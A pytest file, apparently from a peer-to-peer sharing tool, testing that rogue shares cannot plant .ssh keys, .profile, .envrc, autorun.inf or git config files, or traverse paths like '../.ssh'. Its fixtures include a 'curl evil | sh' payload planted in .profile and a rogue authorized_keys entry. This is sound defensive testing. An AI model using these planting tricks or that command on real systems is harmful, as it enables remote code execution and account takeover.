"""Links that plant files: what they lead to is not what they say, or has names that run. Honest shares come beside."""

import os
from contextlib import suppress
from pathlib import Path

import pytest

from p2p.control.protocol import GetRequest
from p2p.core.shares import manifest as manifests
from p2p.errors import StorageError, TargetExists
from p2p.ids import PeerId
from p2p.node import Node
from p2p.progress import Progress
from p2p.store.stamps import Stamp
from p2p.wire.link import Link
from tests.support.small_shares import build, contents, file_entry
from tests.support.world import World, asked, hint_of, same_tree

KEYS: dict[str, bytes | None] = {"authorized_keys": b"the rogue's", "rc": b"#!/bin/sh\n", "deep/.git/config": b"[core]"}


async def offered(rogue: Node, name: str, files: dict[str, bytes | None], told: str | None) -> Link:
    """A link that says one name, to a share that has another."""
    top = build(rogue.home.parent / f"rogue-{name}-{len(files)}", files)
    if "rc" in files:
        (top / "rc").chmod(0o755)
    done = await rogue.sharing.share([top], name, Progress(), unlisted=False)
    return Link(done.share_id, name=told, peers=(hint_of(rogue),))


def home_of_a_user(folder: Path) -> dict[str, bytes | None]:
    files: dict[str, bytes | None] = {".ssh/authorized_keys": b"mine", ".profile": b"mine", "Documents/a": b"mine"}
    build(folder, files)
    (folder / ".ssh").chmod(0o700)
    return files


@pytest.mark.parametrize("told", ["holiday", "../.ssh", None])
async def test_a_link_writes_nothing_into_what_is_there(world: World, told: str | None) -> None:
    rogue, honest, user = [await world.peer(name) for name in ("rogue", "honest", "user")]
    out = world.out(user)
    mine = home_of_a_user(out)
    before = os.stat(out / ".ssh").st_mtime_ns
    link = await offered(rogue, ".ssh", KEYS, told)
    good = await world.publish(honest, {"one": 1000, "deep/two": 300_000})
    for _ in range(2):
        progress = Progress()
        done = await world.get(user, link, [hint_of(rogue)], progress=progress, keep_serving=True)
        top = out / {"holiday": "holiday", "../.ssh": "_._.ssh"}.get(told or "", "_ssh")
        assert done.paths == (top,)
        assert any("'.ssh'" in note or "'../.ssh'" in note for note in progress.notes)
        assert any("--trust-names" in note for note in progress.notes)
        assert contents(out) == mine | {
            f"{top.name}/authorized_keys": b"the rogue's",
            f"{top.name}/rc": b"#!/bin/sh\n",
            f"{top.name}/deep/_git/config": b"[core]",
        }
        assert [(shared, path) for shared, path in done.mapped] == [("deep/.git/config", top / "deep/_git/config")]
    assert os.stat(out / ".ssh").st_mtime_ns == before
    progress = Progress()
    await world.get(user, good.link, [good.hint], progress=progress)
    assert same_tree(good.path, out / "data")
    assert progress.notes == []  # the link has told the name

    # Others get it from this peer, each under the names that they were told and allow.
    third = await world.peer("third")
    await world.get(third, Link(link.share_id, "mine"), [hint_of(user)], trust_names=True)
    assert contents(world.out(third) / "mine") == KEYS


async def test_what_is_there_stays_whatever_the_share_is_called(world: World) -> None:
    rogue, user = await world.peer("rogue"), await world.peer("user")
    out = world.out(user)
    mine = home_of_a_user(out)
    for name, told in (("Documents", "Documents"), ("Documents", None), ("x", "Documents"), (".profile", "Documents")):
        link = await offered(rogue, name, {"a": name.encode(), "rc": b"run"}, told)
        with pytest.raises(TargetExists, match="--into-existing"):
            await world.get(user, link, overwrite=True)
        assert contents(out) == mine
    await world.get(user, link, into_existing=True, overwrite=True)
    assert contents(out / "Documents") == {"a": b".profile", "rc": b"run"}


async def test_a_single_file_has_the_name_that_was_told(world: World) -> None:
    """Its entry, its root and the link have three different names."""
    rogue, user = await world.peer("rogue"), await world.peer("user")
    out, data = world.out(user), b"curl evil | sh"
    mine = home_of_a_user(out)
    root, parts = manifests.encode("readme", [file_entry(".profile", data)], single=True)
    share = manifests.share_id_of(root)
    path = build(world.folder / "planted", {".profile": data}) / ".profile"
    rogue.library.add(share, root, parts, [path], [Stamp.of(os.stat(path))], unlisted=False, fetched=False)
    for told, name in (
        ("holiday.txt", "holiday.txt"),
        (None, "readme"),
        (".profile", "_profile"),
        ("x.desktop", "x.desktop_"),
    ):
        done = await world.get(user, Link(share, told), [hint_of(rogue)])
        mine[name] = data
        assert contents(out) == mine
        assert done.mapped == ((".profile", out / name),)


async def test_a_mutable_link_keeps_to_its_own_folder(world: World) -> None:
    rogue, user = await world.peer("rogue"), await world.peer("user")
    out = world.out(user)
    mine = home_of_a_user(out)

    async def update(name: str, text: bytes) -> list[str]:
        link, progress = await offered(rogue, name, {"a": text, f"{name}.md": text}, None), Progress()
        follows = (PeerId(rogue.peer_id), "news")
        await world.get(user, link, [hint_of(rogue)], follows=follows, keep_serving=True, progress=progress)
        return progress.notes

    assert await update("news", b"1") == []
    await update("news", b"2")
    for name in ("Documents", ".ssh", ".profile"):
        with suppress(TargetExists):
            await update(name, b"3")
    assert {path: data for path, data in contents(out).items() if path in mine} == mine
    assert {path.name for path in out.iterdir()} == {".ssh", ".profile", "Documents", "news", "_ssh", "_profile"}
    await update("news", b"4")
    assert contents(out / "news") == {"a": b"2", "a (newest)": b"4", "news.md": b"2", "news (newest).md": b"4"}


async def test_names_that_run_are_as_the_user_says_and_served_as_they_are(world: World) -> None:
    rogue, user = await world.peer("rogue"), await world.peer("user")
    files: dict[str, bytes | None] = {".envrc": b"run", "bare/HEAD": b"ref", "bare/refs/x": b"", "autorun.inf": b"run"}
    link = await offered(rogue, "data", files, "data")

    def get(out: str, **options: object) -> GetRequest:
        return GetRequest(link=str(link), out=str(world.out(user) / out), **options)  # type: ignore[arg-type]

    answer = await asked(user, get("map"))
    local = {one.path: Path(one.local).name for one in answer.mapped}
    assert local == {".envrc": "_envrc", "bare/HEAD": "HEAD_", "autorun.inf": "autorun.inf_"}
    assert (await asked(user, get("map"))).received == 0
    one = await asked(user, get("map", select=("_envrc",)))
    assert one.paths == (str(world.out(user) / "map/data/_envrc"),)
    answer = await asked(user, get("skip", names="skip", select=(".envrc", "bare")))
    assert [(one.path, "run it" in one.why or "git" in one.why) for one in answer.skipped] == [
        (".envrc", True),
        ("bare/HEAD", True),
    ]
    with pytest.raises(StorageError, match="--trust-names"):
        await asked(user, get("fail", names="fail"))
    assert contents(world.out(user) / "fail") == {}
    answer = await asked(user, get("trust", trust_names=True, names="fail"))
    assert (answer.mapped_count, answer.skipped_count) == (0, 0)
    assert contents(world.out(user) / "trust/data") == files
